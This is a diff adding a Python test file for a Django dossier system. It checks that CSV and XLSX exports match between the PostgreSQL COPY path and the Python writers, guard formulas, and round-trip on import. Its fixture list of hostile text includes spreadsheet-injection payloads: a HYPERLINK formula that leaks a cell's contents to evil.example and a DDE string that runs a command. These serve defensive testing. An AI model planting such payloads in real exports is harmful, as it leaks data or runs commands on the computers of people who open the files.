@@ -1,0 +1,214 @@
+"""The bulk paths of issue 12: the CSV and XLSX exports that PostgreSQL formats (COPY) give the same bytes and
+cells as the Python writers, on hostile and ordinary data; a large import and overdue run refresh the planner's
+statistics; flag_overdue's single statement writes the events the desk's rules write, once."""
+
+import io
+
+import pytest
+from django.db import connection
+from openpyxl import load_workbook
+
+from cases.core import copy as bulk
+from cases.desk.states import EventKind, payload
+from cases.exchange.columns import DOSSIER_KEYS
+from cases.exchange.dossiers import DossierImporter
+from cases.exchange.export import (
+    csv_from_copy,
+    dossier_rows,
+    export_dossiers,
+    export_queryset,
+    write_csv,
+    write_xlsx,
+    xlsx_from_copy,
+)
+from cases.followup.overdue import flag_overdue
+from cases.models import Dossier, DossierEvent
+from tests.conftest import make, vn
+
+pytestmark = pytest.mark.skipif(connection.vendor != "postgresql", reason="the COPY paths are PostgreSQL's")
+
+# Text a user, an import or an old system may have left in a dossier: formula starts (after quotes, blanks),
+# the CSV's own characters, line breaks, XML's special characters, controls XML cannot hold, `\.` (COPY's end
+# marker), backslashes, blanks at either end, Vietnamese letters.
+HOSTILE = [
+    '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")',
+    "+84 912 345 678",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+1)",
+    "'=already quoted",
+    "''+twice quoted",
+    "'plain quote",
+    "\t=1+1",
+    "\r=1+1",
+    "dòng 1\ndòng 2",
+    "dòng 1\r\ndòng 2",
+    'a "quoted", comma',
+    "semi;colon",
+    "<b>&amp; tag</b> & > <",
+    "bell\x07 and\x1f unit",
+    "\\.",
+    "C:\\Windows\\path",
+    "  spaces around  ",
+    "Nguyễn Thị Ánh Tuyết",
+    "",
+]
+
+
+@pytest.fixture
+def hostile(units, procedures):
+    made = []
+    for number, text in enumerate(HOSTILE, start=1):
+        dossier = make(
+            f"DBD-PH-240301-{number:04d}",
+            units["pu_hong"],
+            procedures["land"],
+            vn(2024, 3, 1, 8, number),
+            vn(2024, 3, 7, 17),
+            resolved=vn(2024, 3, 6, 9, 5) if number % 3 == 0 else None,
+            applicant_address=text,
+        )
+        Dossier.objects.filter(pk=dossier.pk).update(applicant_name=text or "Lò Văn Pó", applicant_phone=text[:30])
+        made.append(dossier)
+    # Ordinary rows, in other units, with states a file states, and a year before 2000.
+    make("HS-0001", units["pu_hong"], procedures["land"], vn(1999, 12, 31, 23, 59), vn(2000, 1, 5, 17))
+    make("HS-0002", units["pu_hong"], procedures["land"], vn(2024, 1, 2, 7), vn(2024, 1, 9, 17), state="bo_sung")
+    return made
+
+
+# Legacy text an import refuses or trims (controls, blanks at the ends): the round trips leave it out.
+LEGACY = ["\t=1+1", "\r=1+1", "dòng 1\r\ndòng 2", "bell\x07 and\x1f unit", "  spaces around  "]
+
+
+def importable():
+    Dossier.objects.update(applicant_phone="0912345678")  # a phone is digits since the phone rule
+    Dossier.objects.filter(applicant_name__in=LEGACY).update(applicant_name="Lò Văn Pó", applicant_address="")
+
+
+def python_csv(queryset):
+    target = io.BytesIO()
+    write_csv(target, list(DOSSIER_KEYS), dossier_rows(queryset))
+    return target.getvalue()
+
+
+def copy_csv(queryset):
+    target = io.BytesIO()
+    csv_from_copy(target, queryset)
+    return target.getvalue()
+
+
+def test_the_csv_that_postgresql_formats_is_byte_for_byte_the_python_writers(hostile, units):
+    everything = export_queryset()
+    expected = python_csv(everything)
+    assert copy_csv(everything) == expected
+    assert expected.count(b"\r\n") > len(HOSTILE)  # hostile text really went through
+    # A unit's subtree and a period, as the command and the list's download select them.
+    scoped = export_queryset(units["pu_hong"], vn(2024, 1, 1).date(), vn(2024, 3, 1).date())
+    assert copy_csv(scoped) == python_csv(scoped)
+    # Nothing selected: the header alone.
+    assert copy_csv(Dossier.objects.none()) == python_csv(Dossier.objects.none())
+
+
+def test_the_streamed_csv_guards_formulas_and_its_import_gives_the_same_rows(hostile, tmp_path):
+    importable()
+    path = tmp_path / "ho-so.csv"
+    assert export_dossiers(path, export_queryset()) == Dossier.objects.count()
+    text = path.read_text(encoding="utf-8-sig")
+    assert "'=HYPERLINK" in text and "'''+twice quoted" in text
+    assert ",=" not in text and ",@" not in text and ",+" not in text
+    result = DossierImporter(path).validate()
+    assert not result.errors, result.errors
+    assert result.unchanged == Dossier.objects.count()  # an export's import changes nothing
+
+
+def test_the_xlsx_that_postgresql_writes_has_the_python_writers_cells_as_text(hostile, tmp_path):
+    python, ours = tmp_path / "python.xlsx", tmp_path / "copy.xlsx"
+    queryset = export_queryset()
+    write_xlsx(python, list(DOSSIER_KEYS), dossier_rows(queryset), title="Hồ sơ")
+    assert xlsx_from_copy(ours, queryset) == Dossier.objects.count()
+    expected, read = load_workbook(python).active, load_workbook(ours).active
+    assert read.title == "Hồ sơ" and read.freeze_panes == "A2"
+    assert read.column_dimensions["K"].width == expected.column_dimensions["K"].width
+    cells = [[(cell.value, cell.data_type) for cell in row] for row in read.iter_rows()]
+    assert cells == [[(cell.value, cell.data_type) for cell in row] for row in expected.iter_rows()]
+    assert all(kind != "f" for row in cells for _, kind in row)
+    values = [value for row in cells for value, _ in row]
+    assert '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")' in values  # text, shown as typed
+    assert "dòng 1\ndòng 2" in values and "bell and unit" in values and "C:\\Windows\\path" in values
+
+
+def test_an_exported_workbook_imports_back_unchanged(hostile, tmp_path):
+    importable()
+    path = tmp_path / "ho-so.xlsx"
+    export_dossiers(path, export_queryset())
+    result = DossierImporter(path).validate()
+    assert not result.errors, result.errors
+    assert result.unchanged == Dossier.objects.count()
+
+
+def _last_analyze(table):
+    with connection.cursor() as cursor:
+        cursor.execute("SELECT pg_stat_clear_snapshot()")
+        cursor.execute("SELECT last_analyze FROM pg_stat_user_tables WHERE relname = %s", [table])
+        return cursor.fetchone()[0]
+
+
+@pytest.mark.django_db(transaction=True)
+def test_a_large_import_refreshes_the_planners_statistics(units, procedures, tmp_path, monkeypatch):
+    monkeypatch.setattr(bulk, "ANALYZE_AFTER", 3)
+    before = _last_analyze("cases_dossier")
+    path = tmp_path / "nhap.csv"
+    lines = [",".join(DOSSIER_KEYS)]
+    for number in range(3):
+        code = f"DBD-PH-240304-{number + 1:04d}"
+        lines.append(f"{code},1.000894,DBD-PH,04/03/2024 08:0{number},,,,truc_tiep,Lò Văn Pó,,bản Keo Lôm,")
+    path.write_text("\n".join(lines) + "\n", encoding="utf-8")
+    importer = DossierImporter(path)
+    assert not importer.validate().errors
+    importer.write()
+    after = _last_analyze("cases_dossier")
+    assert after is not None and (before is None or after > before)
+    assert _last_analyze("cases_dossierevent") is not None
+
+
+def test_flag_overdue_writes_the_desks_event_once_per_newly_overdue_dossier(units, procedures):
+    late = [
+        make(f"HS-Q{number}", units["pu_hong"], procedures["land"], vn(2024, 3, 1, 8), vn(2024, 3, 4, 17))
+        for number in range(3)
+    ]
+    make("HS-ON", units["pu_hong"], procedures["land"], vn(2024, 3, 1, 8), vn(2024, 3, 20, 17))
+    make("HS-DONE", units["pu_hong"], procedures["land"], vn(2024, 3, 1, 8), vn(2024, 3, 4, 17), vn(2024, 3, 4, 9))
+    as_of = vn(2024, 3, 8, 10)
+    assert flag_overdue(as_of) == (3, 3)
+    events = DossierEvent.objects.filter(kind=EventKind.OVERDUE).order_by("dossier_id")
+    expected_before, expected_after = payload(EventKind.OVERDUE, {"overdue_since": None}, {"overdue_since": as_of})
+    assert [event.dossier_id for event in events] == [dossier.pk for dossier in late]
+    for event in events:
+        assert (event.before, event.after) == (expected_before, expected_after)
+        assert event.at == as_of and event.by is None and event.reason == "" and event.warning == ""
+    assert set(Dossier.objects.filter(overdue_since=as_of).values_list("code", flat=True)) == {
+        "HS-Q0",
+        "HS-Q1",
+        "HS-Q2",
+    }
+    # A second run flags nothing and writes nothing.
+    assert flag_overdue(as_of) == (3, 0)
+    assert DossierEvent.objects.filter(kind=EventKind.OVERDUE).count() == 3
+
+
+@pytest.mark.django_db(transaction=True)
+def test_a_large_overdue_run_refreshes_the_planners_statistics(units, procedures, monkeypatch):
+    monkeypatch.setattr(bulk, "ANALYZE_AFTER", 2)
+    for number in range(2):
+        make(f"HS-Q{number}", units["pu_hong"], procedures["land"], vn(2024, 3, 1, 8), vn(2024, 3, 4, 17))
+    before = _last_analyze("cases_dossier")
+    flag_overdue(vn(2024, 3, 8, 10))
+    after = _last_analyze("cases_dossier")
+    assert after is not None and (before is None or after > before)
+
+
+def test_the_big_tables_have_their_own_autovacuum_settings(db):
+    with connection.cursor() as cursor:
+        cursor.execute("SELECT reloptions FROM pg_class WHERE relname = 'cases_dossier'")
+        options = cursor.fetchone()[0]
+    assert "autovacuum_analyze_scale_factor=0.01" in options
+    assert "autovacuum_vacuum_scale_factor=0.02" in options
